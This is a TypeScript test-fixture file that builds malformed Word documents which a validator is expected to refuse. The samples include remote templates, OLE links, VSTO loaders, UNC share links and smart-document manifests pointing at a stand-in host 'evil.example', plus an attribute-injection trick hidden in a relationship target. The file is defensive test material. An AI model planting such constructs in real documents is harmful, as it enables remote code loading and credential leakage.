import { text } from '../sample-files.ts';
import { corpusFile, refused } from './corpus-file.ts';
import {
  customForm,
  makeDocx,
  oldDrawing,
  schemaLibrary,
  typeOfPart,
  wordPart,
} from './make-docx.ts';
import { makeShape, makeTheme } from './make-theme.ts';

const STYLES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles';

/** A part with a package. */
const drawn = wordPart('hdr', oldDrawing(makeShape()));

/** Word documents that refer to external resources, or to parts that do not belong in a text. */
export const docxWithExternalReferences = [
  refused(
    'remote-template.docx',
    'A template on a server (attachedTemplate), which brings its macros',
    'Templates are no known relationship',
    () =>
      makeDocx({
        settings: [['rId1', 'attachedTemplate', 'https://evil.example/a.dotm', 'External']],
      }),
  ),
  refused(
    'linked-object.docx',
    'An object of another program on a server (OLE link)',
    'Objects are no known relationship',
    () =>
      makeDocx({
        body: '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p>',
        relations: [['rId3', 'oleObject', 'https://evil.example/a.html!', 'External']],
      }),
  ),
  refused(
    'link-as-picture.docx',
    'A picture whose reference leads to a link, and so to a server',
    'Only links that wait for a click lead outside',
    () =>
      makeDocx({
        body: `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId3"/></w:drawing></w:r></w:p>`,
        relations: [['rId3', 'hyperlink', 'https://evil.example/a.png', 'External']],
      }),
  ),
  refused(
    'link-as-old-picture.docx',
    'The same in an old drawing (o:relid)',
    'Only links that wait for a click lead outside',
    () =>
      makeDocx({
        body: '<w:p><w:r><w:pict><v:shape><v:imagedata o:relid="rId3"/></v:shape></w:pict></w:r></w:p>',
        relations: [['rId3', 'hyperlink', 'https://evil.example/a.png', 'External']],
      }),
  ),
  refused(
    'loads-program.docx',
    'Properties with which Word loads a program of the author from a server (VSTO)',
    'Such properties are refused',
    () =>
      makeDocx({
        parts: {
          'docProps/custom.xml':
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="_AssemblyLocation"/></Properties>',
        },
        types: typeOfPart(
          'docProps/custom.xml',
          'application/vnd.openxmlformats-officedocument.custom-properties+xml',
        ),
      }),
  ),
  refused(
    'links-relative-to-share.docx',
    'A document that makes a server the place of all its links',
    'All links have to be whole',
    () =>
      makeDocx({
        parts: {
          'docProps/app.xml':
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>\\\\evil.example\\a</HyperlinkBase></Properties>',
        },
      }),
  ),
  refused(
    'manifest-of-smart-document.docx',
    'A schema with a manifest on a server, by which a smart document installs programs',
    'Schemas and manifests have to be inside',
    () => makeDocx({ parts: schemaLibrary('sl:manifestLocation="https://evil.example/a.xml"') }),
  ),
  refused(
    'schema-on-share.docx',
    'A schema on a server',
    'Schemas and manifests have to be inside',
    () => makeDocx({ parts: schemaLibrary('sl:schemaLocation="\\\\evil.example\\a.xsd"') }),
  ),
  refused(
    'form-on-server.docx',
    'A form that Word loads from a server and shows above the text (InfoPath, customXsn)',
    'Forms have to be inside',
    () => makeDocx(customForm('https://evil.example/a.xsn')),
  ),
  refused('embedded-object.docx', 'An object of another program', 'Objects are no known part', () =>
    makeDocx({
      relations: [['rId3', 'oleObject', 'embeddings/oleObject1.bin']],
      parts: { 'word/embeddings/oleObject1.bin': text('\xd0\xcf\x11\xe0') },
    }),
  ),
  refused(
    'template-behind-styles.docx',
    'A template on a server, behind foreign attributes that tell of styles',
    'Attributes of another vocabulary do not count',
    () =>
      makeDocx({
        settings: [
          // The foreign attributes come last: a reader that compares only local names uses them.
          [
            'rId1',
            'attachedTemplate',
            `https://evil.example/a.dotm" TargetMode="External" xmlns:x="urn:x" x:Type="${STYLES}" x:Target="styles.xml" x:TargetMode="Internal`,
          ],
        ],
      }),
  ),
  refused('linked-picture.docx', 'A picture on a server', 'Pictures have to be inside', () =>
    makeDocx({ relations: [['rId3', 'image', 'https://evil.example/a.png', 'External']] }),
  ),
  refused(
    'linked-drawing.docx',
    'A picture on a server, named by an old drawing itself',
    'Pictures have to be inside',
    () =>
      makeDocx({
        body: '<w:p><w:r><w:pict><v:shape><v:imagedata src="file://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
      }),
  ),
  refused(
    'remote-picture-in-package.docx',
    'A drawing of newer versions of Word with a picture on a server',
    'All content has to be inside',
    () =>
      makeDocx({
        body: oldDrawing(makeShape([['rId1', 'image', 'https://evil.example/a.png', 'External']])),
      }),
  ),
  refused(
    'package-in-package.docx',
    'A drawing of newer versions of Word inside a package of its own',
    'Packages have none inside them',
    () => makeDocx({ body: oldDrawing(makeTheme({ 'theme/a.xml': drawn })) }),
  ),
  refused(
    'origin-of-drawing.docx',
    'A picture that names the server it comes from (o:href)',
    'Pictures have to be inside',
    () =>
      makeDocx({
        body: '<w:p><w:r><w:pict><v:shape><v:imagedata o:href="https://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
      }),
  ),
  refused(
    'share-link.docx',
    'A link to a folder of a server, which sends the reader’s password there',
    'Only web, mail and telephone',
    () =>
      makeDocx({ relations: [['rId3', 'hyperlink', 'file:///\\\\evil.example\\cv', 'External']] }),
  ),
  refused(
    'unknown-reference.docx',
    'A relationship of an unknown vocabulary, by the name of a known one',
    'Only known relationships',
    () =>
      makeDocx({
        relations: [['rId3', 'https://visitor.example/relationships/styles', 'styles.xml']],
      }),
  ),
  refused(
    'foreign-text.docx',
    'A page of the web to be read in (altChunk)',
    'Foreign text is refused',
    () =>
      makeDocx({
        body: '<w:altChunk r:id="rId3"/>',
        relations: [['rId3', 'aFChunk', 'a.xml']],
        parts: { 'word/a.xml': '<html/>' },
      }),
  ),
  corpusFile(
    'macros.docx',
    'fileTypeRefused',
    'Macros under the name of a document without',
    'It declares itself a document with macros, which is no kind that is taken',
    () =>
      makeDocx({
        main: 'application/vnd.ms-word.document.macroEnabled.main+xml',
        relations: [
          [
            'rId3',
            'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
            'vbaProject.bin',
          ],
        ],
        parts: { 'word/vbaProject.bin': text('\xd0\xcf\x11\xe0') },
      }),
  ),
  refused('activex.docx', 'An ActiveX control', 'Controls are no known relationship', () =>
    makeDocx({
      body: '<w:p><w:r><w:control r:id="rId3"/></w:r></w:p>',
      relations: [['rId3', 'control', 'activeX/activeX1.xml']],
      parts: { 'word/activeX/activeX1.xml': '<ax/>' },
    }),
  ),
];
